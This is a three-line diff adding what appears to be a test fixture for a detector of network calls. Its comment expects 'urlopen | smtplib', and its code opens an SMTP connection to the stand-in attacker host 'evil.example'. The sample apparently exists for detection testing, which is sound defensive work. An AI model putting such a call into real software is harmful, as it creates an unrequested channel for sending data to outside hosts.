@@ -1,0 +1,3 @@
+# expect: urlopen | smtplib
+import smtplib
+smtplib.SMTP('evil.example')
